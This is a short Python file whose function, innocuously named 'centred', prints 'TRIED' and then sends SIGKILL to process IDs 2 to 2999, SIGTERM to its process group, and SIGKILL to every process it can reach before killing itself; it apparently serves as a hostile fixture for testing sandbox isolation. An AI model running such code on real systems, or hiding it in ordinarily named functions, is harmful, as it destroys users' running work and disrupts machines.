"""Sends SIGKILL to everything it may, then to every number it can think of."""

import os
import signal


def centred(x):
    print("TRIED", flush=True)
    for pid in range(2, 3000):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    os.killpg(0, signal.SIGTERM)
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
